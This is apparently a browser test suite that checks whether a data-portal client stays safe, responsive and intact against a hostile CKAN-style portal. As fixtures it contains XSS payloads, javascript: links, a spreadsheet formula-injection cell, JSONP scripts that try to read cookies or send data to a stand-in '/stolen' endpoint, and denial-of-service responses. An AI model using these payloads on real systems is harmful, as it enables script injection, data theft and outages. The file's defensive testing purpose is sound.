// A portal that means harm: no script of it runs in the page, the page stays quick, and what the person made
// is still there.

import assert from "node:assert/strict";
import { behaves, eventually, journey, personAt, servePortal, settles, unanchored } from "../harness/index.mjs";

/** What a browser itself writes when a server answers badly, or a policy stops something. */
const NOISE = /Failed to load resource|blocked by CORS policy|Content Security Policy|ERR_TOO_MANY_REDIRECTS/;

/** How long the page may take to answer while something bad goes on, on a slow and busy machine. */
const ANSWERS_MS = 1_000;

const SCRIPT = `<script>window.owned="script"</script><img src=x onerror="window.owned='img'"><svg onload="window.owned='svg'">`;

/** Makes something worth losing: a table with its chart in a story that has a title. */
async function makeStory({ me, goto, fixtures }) {
  await goto(`data=${fixtures.serve("/milik/panen.csv", behaves.csv("kota;panen\nBandung;12\nCimahi;30\nGarut;21\n"))}`);
  await me.countsRows(3, 3);
  await me.addFigure("MAKE_CHART");
  await me.link("figure.IN_STORY").click();
  await me.entitle("Panen yang tidak boleh hilang");
  await me.saved();
}

/** The story is as it was, and no script of the portal has run. */
async function nothingLost({ page, me, goto, fixtures }) {
  await goto("view=story");
  await me.storyDrawn(1);
  assert.equal((await me.story()).title, "Panen yang tidak boleh hilang");
  await unharmed({ page, fixtures });
}

async function unharmed({ page, fixtures }) {
  assert.equal(await page.evaluate(() => window.owned ?? null), null, "a script of the portal ran in the page");
  assert.deepEqual(fixtures.requests.filter((request) => request.includes("/stolen")), [], "something was carried away");
}

/** The page answers at once: a click gets through and the main thread is free. */
async function responsive(page, what) {
  const began = performance.now();
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
  const took = performance.now() - began;
  assert.ok(took < ANSWERS_MS, `${what}: the page took ${took.toFixed(0)} ms to answer`);
}

/** A CKAN that answers an action in a way of its own. */
function serveAction(fixtures, action, behaviour) {
  fixtures.serve(`/api/3/action/${action}`, behaviour);
}

const DATASET = { name: "harga", title: "Harga pangan", publisher: "Dinas", licence: { id: "cc-by", title: "CC BY" }, resources: [] };

journey("a hostile portal: script in every text", async ({ page, goto, lang, screen, fixtures, allow }) => {
  allow(NOISE);
  const me = personAt(page, { lang, screen });
  page.on("dialog", (dialog) => assert.fail(`a dialog of the portal: ${dialog.message()}`));
  await makeStory({ me, goto, fixtures });
  const file = fixtures.serve("/data/jahat.csv", behaves.csv(`"${SCRIPT.replaceAll('"', '""')}",nilai\n"=cmd|x","${SCRIPT.replaceAll('"', '""')}"\nb,2\n`));
  const portal = servePortal(
    fixtures,
    [
      {
        name: "jahat",
        title: `Harga ${SCRIPT}`,
        notes: `${SCRIPT}\n\n[klik](javascript:window.owned='link') ![x](https://127.0.0.1:9/x.png) <a href="javascript:window.owned=1">a</a>`,
        publisher: `Dinas ${SCRIPT}`,
        licence: { id: SCRIPT, title: SCRIPT },
        resources: [{ id: "r1", name: `Berkas ${SCRIPT}`, url: file, description: SCRIPT }, { id: "r2", name: "Tautan", url: "javascript:window.owned='url'" }],
      },
    ],
    { title: `Portal ${SCRIPT}` },
  );
  await goto(`portal=${portal}`);
  await me.results();
  await me.picture("45-texts");
  await unharmed({ page, fixtures });
  await goto(`portal=${portal}&dataset=jahat`);
  await page.locator("li.file").first().waitFor();
  assert.equal(await page.locator('a[href^="javascript:" i]').count(), 0, "a link that runs script");
  await unharmed({ page, fixtures });
  await me.openFile("Berkas");
  await me.countsRows(2, 2);
  await nothingLost({ page, me, goto, fixtures });
});

journey("a hostile portal: answers without end or sense", async ({ page, goto, lang, screen, fixtures, allow }) => {
  allow(NOISE);
  const me = personAt(page, { lang, screen });
  await makeStory({ me, goto, fixtures });
  const portal = servePortal(fixtures, [DATASET]);
  const search = (behaviour) => serveAction(fixtures, "package_search", behaviour);
  const json = (body) => ({ type: "application/json", body });
  const deep = 100_000;
  const problems = async (codes) => {
    const notice = page.locator("main").getByRole("alert").first();
    await notice.waitFor({ timeout: 60_000 });
    const text = await notice.innerText();
    assert.ok(codes.some((code) => unanchored(me.say.like(`problems.${code}`)).test(text)), `${codes} in: ${text}`);
  };

  // 200 MB of JSON, made while it is sent; the browser takes only as much as an answer may have.
  let sent = 0;
  search({
    type: "application/json",
    send: async (response) => {
      const piece = Buffer.from(`${JSON.stringify({ id: "x", name: "x", title: "Harga ".repeat(100) })},`.repeat(400));
      response.write('{"success":true,"result":{"count":1000000,"results":[');
      const closed = new Promise((resolve) => response.once("close", resolve));
      while (sent < 200_000_000 && !response.destroyed) {
        sent += piece.length;
        if (!response.write(piece)) await Promise.race([closed, new Promise((resolve) => response.once("drain", resolve))]);
      }
      response.end("{}]}}");
    },
  });
  await goto(`portal=${portal}`);
  await responsive(page, "while 200 MB come");
  await problems(["TOO_LARGE"]);
  assert.ok(sent < 150_000_000, `${sent} bytes were taken`);
  await me.picture("45-large");

  // Nested a hundred thousand deep, as an answer and as a file.
  search(json(`{"success":true,"result":${"[".repeat(deep)}${"]".repeat(deep)}}`));
  await goto(`portal=${portal}`);
  await problems(["BAD_ANSWER", "NOT_A_PORTAL"]);
  await responsive(page, "after a deep answer");
  await goto(`data=${fixtures.serve("/dalam.json", json(`${'{"a":['.repeat(deep)}1${"]}".repeat(deep)}`))}`);
  // A cell holds what lies too deep to be a table, as it is written.
  await page.locator("main [role=alert], main [role=grid]").first().waitFor();
  await responsive(page, "after a deep file");

  // A redirect that leads to itself, for the portal and for a file.
  const loop = (path) => ({ status: 302, headers: { Location: fixtures.url(path) }, body: "" });
  search(loop("/api/3/action/package_search"));
  await goto(`portal=${portal}`);
  await problems(["UNREACHABLE", "REFUSED"]);
  await goto(`data=${fixtures.serve("/putar.csv", loop("/putar.csv"))}`);
  await problems(["UNREACHABLE", "REFUSED"]);

  // Media types that are not true: what counts is what came.
  const good = JSON.stringify({ success: true, result: { count: 1, results: [{ id: "a", name: "a", title: "Harga beras" }] } });
  for (const type of ["text/html", "image/png", "application/javascript", "application/octet-stream", "x"]) {
    search({ type, body: good });
    await goto(`portal=${portal}`);
    await page.getByRole("main").getByRole("link", { name: "Harga beras", exact: true }).waitFor();
  }
  search({ type: "application/json", body: `<!doctype html>${SCRIPT}` });
  await goto(`portal=${portal}`);
  await problems(["BAD_ANSWER", "NOT_A_PORTAL"]);
  await goto(`data=${fixtures.serve("/palsu.csv", { type: "image/png", body: "a;b\n1;2\n" })}`);
  await me.countsRows(1, 1);
  await nothingLost({ page, me, goto, fixtures });
});

journey("a hostile portal: rows without end, bytes one by one", async ({ page, goto, lang, screen, fixtures, allow }) => {
  allow(NOISE);
  const me = personAt(page, { lang, screen });
  await makeStory({ me, goto, fixtures });
  const resource = { id: "r1", name: "Tabel", url: fixtures.url("/datastore/dump/r1"), format: "CSV", datastore_active: true, url_type: "datastore" };
  const portal = servePortal(fixtures, [{ ...DATASET, resources: [resource] }]);

  // Every page says that millions more follow.
  let page_count = 0;
  serveAction(fixtures, "datastore_search", (url) => {
    page_count += 1;
    const [offset, limit] = ["offset", "limit"].map((name) => Number(url.searchParams.get(name) ?? 0));
    const records = Array.from({ length: Math.min(limit, 5_000) }, (_, row) => [offset + row, `kota ${(offset + row) % 97}`]);
    return { type: "application/json", body: JSON.stringify({ success: true, result: { total: 5_000_000, offset, limit, records_format: "lists", fields: [{ id: "n", type: "int" }, { id: "kota", type: "text" }], records } }) };
  });
  await goto(`portal=${portal}&dataset=harga&resource=r1`);
  await eventually(() => page_count, (count) => count > 3, "pages of rows asked for");
  await responsive(page, "while rows come without end");
  await me.button("common.CANCEL").first().click();
  await page.locator("main").getByRole("alert").filter({ hasText: unanchored(me.say.like("problems.CANCELLED")) }).waitFor();
  const asked = page_count;
  await responsive(page, "after rows were called off");
  await settles(() => page_count <= asked + 1, true, "no further pages are asked for");

  // One byte a second: the person can stop it, and the page is theirs meanwhile. That it is given up by itself
  // is a test of the engine, which is told the time.
  const drip = {
    type: "text/csv",
    send: (response) => {
      response.write("a");
      const timer = setInterval(() => response.write("a"), 1_000);
      response.on("close", () => clearInterval(timer));
    },
  };
  await goto(`data=${fixtures.serve("/tetes.csv", drip)}`);
  await me.button("common.CANCEL").first().waitFor();
  await responsive(page, "while bytes drip");
  await me.button("common.CANCEL").first().click();
  await page.locator("main").getByRole("alert").filter({ hasText: unanchored(me.say.like("problems.CANCELLED")) }).waitFor();
  serveAction(fixtures, "package_search", drip);
  await goto(`portal=${portal}`);
  await me.button("common.CANCEL").first().click();
  await page.locator("main").getByRole("alert").filter({ hasText: unanchored(me.say.like("problems.CANCELLED")) }).waitFor();
  await nothingLost({ page, me, goto, fixtures });
});

/** Scripts in the place of a JSONP answer; `${callback}` is what was asked for. */
const ATTACKS = {
  "reaches for the page": (callback, stolen) =>
    `const seen=[];for(const way of [()=>parent.document,()=>top.location.href="${stolen}",()=>window.top.owned=1,()=>document.cookie,()=>localStorage.length,()=>indexedDB.open("jelajah"),()=>self.opener.owned=1,()=>location.href="${stolen}",()=>close])try{seen.push(String(way()))}catch(error){seen.push(error.name)};${callback}({success:true,result:{site_title:seen.join(" "),ckan_version:"x",extensions:[]}});`,
  "asks elsewhere": (callback, stolen) =>
    `fetch("${stolen}?fetch",{mode:"no-cors"}).catch(()=>{});try{const x=new XMLHttpRequest();x.open("GET","${stolen}?xhr",false);x.send()}catch{};try{importScripts("${stolen.replace("127.0.0.1", "localhost")}?script")}catch{};try{new WebSocket("${stolen.replace("http", "ws")}?ws")}catch{};try{navigator.sendBeacon("${stolen}?beacon","x")}catch{};try{new EventSource("${stolen}?events")}catch{};${callback}({success:false});`,
  "writes to the port": (callback) =>
    `const post=MessagePort.prototype.postMessage;MessagePort.prototype.postMessage=function(data){for(let i=0;i<50;i+=1){post.call(this,{head:'{"id":1,"job":"info"}'});post.call(this,["${callback}",{}]);post.call(this,["other","x"]);post.call(this,new ArrayBuffer(8));post.call(this,{frame:"https://a.id",wanted:true})}post.call(this,data)};${callback}({success:true,result:{}});`,
  "computes for ever": () => "for(;;){}",
  "is no script": () => "<!doctype html><html>",
  "answers with what JSON has not": (callback) => `const a={};a.a=a;${callback}(a);`,
  "answers too much": (callback) => `${callback}({success:true,result:{site_title:"x".repeat(8e6),extensions:[]}});`,
  "answers for others": (callback) => `for(let i=0;i<99;i+=1)self["jelajah"+i]?.({success:true,result:{}});self.onmessage=null;postMessage({frame:"x",wanted:true});${callback}(1);`,
};

journey("a hostile portal: scripts that try to reach the page", { limit: 300_000 }, async ({ page, goto, lang, screen, fixtures, allow, context }) => {
  allow(NOISE);
  allow(/sandbox|Unsafe attempt/i);
  const me = personAt(page, { lang, screen });
  await makeStory({ me, goto, fixtures });
  const before = new URL(page.url()).origin;
  let attack = null;
  fixtures.serveUnder("/", (url) => {
    const callback = url.searchParams.get("callback");
    if (url.pathname.startsWith("/stolen")) return { body: "self.stolen=1" };
    // Without the frame it refuses, as CKAN does.
    if (!callback) return { type: "application/json", cors: false, body: "{}" };
    return { type: "application/javascript", cors: false, body: ATTACKS[attack](callback, fixtures.url("/stolen")) };
  });
  await goto(`portal=${fixtures.origin}`);
  await me.problem("REFUSED", {}, "screens.REFUSED_PORTAL_NEXT");
  assert.equal(await page.locator("iframe").count(), 0, "no frame without consent");
  assert.deepEqual(fixtures.requests.filter((request) => request.includes("callback=")), [], "no script without consent");
  await me.picture("45-consent", true);

  for (attack of Object.keys(ATTACKS)) {
    try {
      if (attack === Object.keys(ATTACKS)[0]) await me.button("ways.FRAME_ALLOW").click();
      else await goto(`portal=${fixtures.origin}`);
      await eventually(() => fixtures.requests.some((request) => request.includes("callback=")), (asked) => asked, "the portal's script was loaded");
      if (attack === "computes for ever") {
        // It has thirty seconds; the person need not wait, and the page does not.
        await responsive(page, "while a script computes");
        await me.button("common.CANCEL").first().click();
      }
      await page.locator("main").getByRole("alert").first().waitFor({ timeout: 60_000 });
      await responsive(page, "after the script");
      assert.equal(new URL(page.url()).origin, before, "the page is where it was");
      assert.equal(context.pages().length, 1, "no window was opened");
      await unharmed({ page, fixtures });
      await me.picture(`45-${attack.replaceAll(" ", "-")}`);
    } catch (error) {
      throw new Error(`a script that ${attack}: ${error.message}`, { cause: error });
    }
    fixtures.requests.length = 0;
  }
  await nothingLost({ page, me, goto, fixtures });
});
